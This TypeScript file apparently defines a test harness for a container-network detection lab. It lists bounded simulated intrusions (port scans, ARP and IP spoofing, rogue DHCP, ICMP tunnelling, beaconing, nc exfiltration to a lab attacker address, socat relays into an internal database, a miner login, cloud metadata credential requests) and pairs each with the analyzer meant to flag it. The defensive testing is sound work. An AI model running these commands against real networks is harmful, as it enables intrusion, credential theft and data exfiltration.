/**
 * Attacks that an intruder in a container would try, with the tools that he would bring, one container each so that
 * each finding has one right name. Every one is bounded and stays within the lab.
 */
import { BUSYBOX_IMAGE, TOOLS_IMAGE } from './images.ts';
import { TUNNEL_PORT } from './internet.ts';
import type { Lab } from './lab.ts';
import { type RunningProcess, waitFor } from './run.ts';
import { HOST_ADDRESS, INTERNET, ROUTER_ADDRESS } from './world.ts';

/** What must be in the image of the intruder, and what of it this machine must have for the other end. */
export const INTRUDER_TOOLS = ['nmap', 'masscan', 'hping3', 'arpspoof', 'dnsmasq', 'ptunnel-ng'];

/** What those tools read. */
export const INTRUDER_FILES = ['/usr/share/nmap/nmap-services', '/usr/share/nmap/nmap-payloads'];

export const FRONT = {
  name: 'front',
  subnet: '172.31.10.0/24',
  gateway: '172.31.10.1',
  v6: 'fd31:0:0:10::/64',
  /** Of the api, so that a command line can name it. */
  apiV6: 'fd31:0:0:10::a1',
};
export const BACK = { name: 'back', subnet: '172.31.20.0/24' };
export const OTHER = { name: 'other', subnet: '172.31.30.0/24' };

/** Addresses of the containers that are attacked. */
export interface Targets {
  readonly web: string;
  readonly api: string;
  readonly ledger: string;
  readonly database: string;
}

export interface Intrusion {
  readonly id: string;
  readonly title: string;
  /** At least one of these analyzers must name the intruder. */
  readonly found: readonly string[];
  /** Who is named; `wan` acts from outside and is named by its address. Default: a container of its own. */
  readonly from?: 'container' | 'wan' | 'host';
  readonly labels?: Readonly<Record<string, string>>;
  /** Told when so many of the attack's messages have passed at the most; `evidence` counts them. */
  readonly after?: { readonly evidence: string; readonly most: number; readonly what: string };
  /** How long the container has run when it begins, where that matters. */
  readonly livedSecs?: number;
  /** It takes its time by nature: it runs beside the others, and the limit of time is not for it. */
  readonly isSlow?: true;
  /** What stands at the other end. */
  prepare?(lab: Lab): Promise<RunningProcess>;
  /** The command in the intruder's container, the wan or the host. */
  command(targets: Targets): readonly string[];
}

const ATTACKER = INTERNET.attacker.v4;
const STRATUM_PORT = '3333';
/** Where somebody outside waits for a tunnel to be dug to him. */
const CALL_BACK_PORT = '9100';
/** Of the wan's own: a server of pings can have it without taking those away that others answer. */
const PING_SERVER = ROUTER_ADDRESS;
/** Whoever is there for five seconds is accused at once. */
const FIRST_FRAME = { livedSecs: 6, after: { evidence: 'claims', most: 1, what: 'frame' } } as const;
const PROBES = { most: 20, what: 'probes' } as const;
const sh = (script: string): readonly string[] => ['sh', '-c', script];

export const INTRUSIONS: readonly Intrusion[] = [
  {
    id: 'syn-scan',
    title: 'nmap -sS of 200 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'portCount' },
    command: ({ web }) => nmap('-sS', '-p', '1-200', '--max-retries', '0', web),
  },
  {
    id: 'connect-scan',
    title: 'nmap -sT of 200 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'portCount' },
    command: ({ web }) => nmap('-sT', '-p', '1-200', '--max-retries', '0', web),
  },
  {
    id: 'xmas-scan',
    title: 'nmap -sX of 50 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'probes' },
    command: ({ web }) => nmap('-sX', '-p', '1-50', '--max-retries', '0', web),
  },
  {
    id: 'null-scan',
    title: 'nmap -sN of 50 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'probes' },
    command: ({ web }) => nmap('-sN', '-p', '1-50', '--max-retries', '0', web),
  },
  {
    id: 'masscan',
    title: 'masscan of 200 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'portCount' },
    command: ({ web }) => ['timeout', '20', 'masscan', '-p1-200', '--rate', '200', '--wait', '1', web],
  },
  {
    id: 'connect-scan-v6',
    title: 'nmap -6 -sT of 200 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'portCount' },
    command: () => nmap('-6', '-sT', '-p', '1-200', '--max-retries', '0', FRONT.apiV6),
  },
  {
    id: 'udp-scan',
    title: 'nmap -sU of 40 ports of a neighbour',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'portCount' },
    command: ({ web }) => nmap('-sU', '-p', '1000-1039', '--max-retries', '0', '--min-rate', '20', web),
  },
  {
    id: 'slow-scan',
    title: 'nmap -sS, one port each 400 ms',
    found: ['port-scan'],
    after: { ...PROBES, evidence: 'portCount' },
    command: ({ web }) => nmap('-sS', '-p', '20-45', '--scan-delay', '400ms', '--max-retries', '0', web),
  },
  {
    id: 'arp-sweep',
    title: 'nmap -sn of the own network: ARP',
    found: ['host-sweep'],
    after: { ...PROBES, evidence: 'hostCount' },
    command: () => nmap('-sn', '172.31.10.128/26'),
  },
  {
    id: 'ndp-sweep',
    title: 'nmap -6 -sn of 64 addresses of the own network: neighbour discovery',
    found: ['host-sweep'],
    after: { ...PROBES, evidence: 'hostCount' },
    command: () => nmap('-6', '-sn', 'fd31:0:0:10::1:0/122'),
  },
  {
    id: 'host-sweep',
    title: 'nmap of port 22 on every address of another network',
    found: ['host-sweep', 'isolation-bypass'],
    command: () => nmap('-sS', '-p', '22', '--max-retries', '0', '--min-rate', '20', '172.31.30.0/26'),
  },
  {
    id: 'arp-spoof',
    title: "arpspoof: the gateway's address is mine",
    found: ['arp-spoof'],
    ...FIRST_FRAME,
    command: ({ web }) => ['timeout', '6', 'arpspoof', '-i', 'eth0', '-t', web, FRONT.gateway],
  },
  {
    id: 'ip-spoof',
    title: "hping3 -a: packets in a neighbour's name",
    found: ['ip-spoof'],
    ...FIRST_FRAME,
    command: ({ web, api }) => [
      'hping3',
      '-q',
      '-c',
      '40',
      '-i',
      'u200000',
      '-S',
      '-p',
      '80',
      '-a',
      api,
      web,
    ],
  },
  {
    id: 'router-advertisement',
    title: 'dnsmasq --enable-ra: I am the router',
    found: ['rogue-gateway'],
    command: () =>
      rogue('--enable-ra', '--dhcp-range=::,constructor:eth0,ra-only,64', '--ra-param=eth0,4,300'),
  },
  {
    id: 'dhcp-offer',
    title: 'dnsmasq --dhcp-range: I give out addresses, and I am the router',
    found: ['rogue-gateway'],
    async prepare(lab) {
      const asking = [
        'timeout',
        '15',
        'udhcpc',
        '-f',
        '-i',
        'eth0',
        '-s',
        '/usr/bin/true',
        '-t',
        '15',
        '-T',
        '1',
      ];
      const client = ['docker', 'run', '--rm', '--network', FRONT.name, BUSYBOX_IMAGE, 'busybox'];
      return lab.spawn('host', [...client, ...asking]);
    },
    command: () => rogue('--dhcp-authoritative', '--dhcp-range=172.31.10.100,172.31.10.120'),
  },
  {
    id: 'ping-tunnel',
    title: 'ptunnel-ng: 200 kB through pings',
    found: ['icmp-tunnel'],
    prepare: (lab) => listening(lab, ['ptunnel-ng'], 'ptunnel-ng'),
    command: () =>
      sh(
        `timeout 20 ptunnel-ng -p${PING_SERVER} -l2222 -r127.0.0.1 -R${TUNNEL_PORT} & ` +
          'for i in 1 2 3 4 5 6 7 8; do sleep 0.3; netstat -tln | grep -q :2222 && break; done; ' +
          'dd if=/dev/urandom bs=1000 count=200 | timeout 15 nc 127.0.0.1 2222',
      ),
  },
  {
    id: 'beacon',
    title: 'asks an address without a name for orders, every two seconds with a jitter',
    found: ['beacon'],
    after: { evidence: 'contacts', most: 12, what: 'calls' },
    isSlow: true,
    command: () =>
      sh(
        `for i in 1 4 0 3 2 4 1 0 3 2 1 4 0 2; do wget -q -O /dev/null http://${ATTACKER}/; sleep 2.$i; done`,
      ),
  },
  {
    id: 'exfiltration',
    title: 'sends 60 MB to an address outside',
    found: ['exfil-volume'],
    command: () =>
      sh(`dd if=/dev/zero bs=1M count=60 2> /dev/null | timeout 15 nc -w 3 ${ATTACKER} ${TUNNEL_PORT}`),
  },
  {
    id: 'relay',
    title: 'socat in a container on two networks: a member of the internal one asks the internet through it',
    found: ['internal-relay'],
    prepare: async (lab) =>
      insideAsks(
        lab,
        'relay',
        "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | socat -t 2 - TCP:intruder-relay:8000; sleep 0.7",
      ),
    command: () => ['timeout', '30', 'socat', 'TCP-LISTEN:8000,fork,reuseaddr', `TCP:${ATTACKER}:80`],
  },
  {
    id: 'relay-datagrams',
    title: 'the same with datagrams, on a port that is no resolver',
    found: ['internal-relay'],
    prepare: async (lab) =>
      insideAsks(
        lab,
        'relay-datagrams',
        `printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3www\\7example\\4test\\0\\0\\1\\0\\1' | socat -t 0.7 - UDP:intruder-relay-datagrams:5300`,
      ),
    command: () => [
      ...['timeout', '30', 'socat', 'UDP-LISTEN:5300,fork,reuseaddr'],
      `UDP:${INTERNET.resolver.v4}:53`,
    ],
  },
  {
    id: 'relay-tunnel',
    title:
      'a container on two networks calls somebody outside, who then asks the internal database through it',
    found: ['internal-relay'],
    async prepare(lab) {
      joinBack(lab, 'relay-tunnel', 'true');
      const asks =
        'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do echo give me row $i of the customers; sleep 0.9; done';
      const shell = ['-e', 'busybox', 'sh', '-c', asks];
      return listening(lab, ['busybox', 'nc', '-ll', '-p', CALL_BACK_PORT, ...shell], `:${CALL_BACK_PORT}`);
    },
    command: ({ database }) => [
      ...['timeout', '30', 'socat'],
      ...[`TCP:${ATTACKER}:${CALL_BACK_PORT}`, `TCP:${database}:5432`],
    ],
  },
  {
    id: 'miner',
    title: 'a miner logs in at its pool (stratum)',
    found: ['mining'],
    prepare: (lab) => {
      const answer = '{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"x","job":{"job_id":"1"}}}';
      const pool = `read login; echo '${answer}'; sleep 2`;
      return listening(
        lab,
        ['busybox', 'nc', '-ll', '-p', STRATUM_PORT, '-e', 'busybox', 'sh', '-c', pool],
        `:${STRATUM_PORT}`,
      );
    },
    command: () => {
      const login =
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}';
      return sh(`(echo '${login}'; sleep 2) | timeout 4 nc ${ATTACKER} ${STRATUM_PORT}`);
    },
  },
  {
    id: 'metadata',
    title: "asks for the cloud's credentials at 169.254.169.254",
    found: ['metadata-access'],
    command: () =>
      sh('timeout 5 wget -q -O- http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  },
  {
    id: 'docker-api',
    title: "asks the host's Docker API on port 2375",
    found: ['docker-api-access'],
    prepare: (lab) =>
      listening(
        lab,
        ['busybox', 'nc', '-ll', '-p', '2375', '-e', 'busybox', 'echo', 'HTTP/1.1 200 OK'],
        ':2375',
        'host',
      ),
    command: () => sh(`timeout 5 wget -q -O- http://${FRONT.gateway}:2375/version`),
  },
  {
    id: 'database-of-others',
    title: "connects to the database of another project's",
    found: ['admin-port-access'],
    labels: { 'com.docker.compose.project': 'shop', 'com.docker.compose.service': 'intruder' },
    command: ({ ledger }) => sh(`(echo; sleep 1) | timeout 4 nc ${ledger} 5432`),
  },
  {
    id: 'basic-credentials',
    title: 'sends a password over HTTP to the internet',
    found: ['cleartext-credentials'],
    command: () =>
      sh(
        `printf 'GET / HTTP/1.1\\r\\nHost: www.example.test\\r\\nAuthorization: Basic aW50cnVkZXI6Y29ycmVjdA==\\r\\nConnection: close\\r\\n\\r\\n' | timeout 4 nc ${INTERNET.web.v4} 80`,
      ),
  },
  {
    id: 'direct-routing',
    // Engines before 28 let this through for ports that are published, whatever address they are published on.
    title: 'from outside straight to the address of a container, past its published port',
    found: ['isolation-bypass', 'published-exposure'],
    from: 'wan',
    command: ({ web }) =>
      sh(
        `ip route replace ${FRONT.subnet} via ${HOST_ADDRESS}; timeout 5 busybox wget -q -O- http://${web}/; ip route del ${FRONT.subnet}`,
      ),
  },
  {
    id: 'host-into-internal',
    title: 'the host opens a connection into an internal network',
    found: ['internal-ingress'],
    from: 'host',
    command: ({ database }) => sh(`(echo; sleep 1) | timeout 2 busybox nc ${database} 5432`),
  },
];

function nmap(...words: readonly string[]): readonly string[] {
  return ['timeout', '20', 'nmap', '-n', '-Pn', ...words].filter(
    (word) => !(word === '-Pn' && words.includes('-sn')),
  );
}

function rogue(...words: readonly string[]): readonly string[] {
  const quiet = ['--keep-in-foreground', '--conf-file=/dev/null', '--port=0', '--user=root', '--pid-file='];
  return ['timeout', '8', 'dnsmasq', ...quiet, '--dhcp-leasefile=/tmp/leases', ...words];
}

/** The intruder's container gets a foot in the internal network as soon as it is there; then `script` runs on the host. */
function joinBack(lab: Lab, id: string, script: string): RunningProcess {
  const intruder = `intruder-${id}`;
  // Of one that is only made and not yet started, engines lose the second network now and then.
  const joined = `docker exec ${intruder} true 2> /dev/null && docker network connect ${BACK.name} ${intruder}`;
  const patience = 'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20';
  return lab.spawn('host', ['sh', '-c', `${patience}; do ${joined} && break; sleep 0.2; done; ${script}`]);
}

/** A member of the internal network does this some times in a row. */
function insideAsks(lab: Lab, id: string, command: string): RunningProcess {
  const loop = `for i in 1 2 3 4 5 6 7 8 9 10 11 12; do ${command}; done`;
  const client = `docker run --rm --name inside-${id} --network ${BACK.name} ${TOOLS_IMAGE}`;
  return joinBack(lab, id, `sleep 2; exec ${client} sh -c ${quoted(loop)}`);
}

function quoted(script: string): string {
  return `'${script.replaceAll("'", `'\\''`)}'`;
}

/** Runs in the wan, or on the host, until the lab's caller stops it; waits until its socket is there, by address or by program. */
async function listening(
  lab: Lab,
  argv: readonly string[],
  socket: string,
  place: 'wan' | 'host' = 'wan',
): Promise<RunningProcess> {
  const server = lab.spawn(place, argv);
  await waitFor(`${argv.join(' ')} to listen`, async () => {
    if (!server.running()) throw new Error(server.output());
    const kinds = ['--tcp', '--udp', '--raw'];
    const sockets = await lab.exec(place, ['ss', '--all', '--numeric', '--processes', ...kinds]);
    return sockets.stdout.includes(socket);
  });
  return server;
}
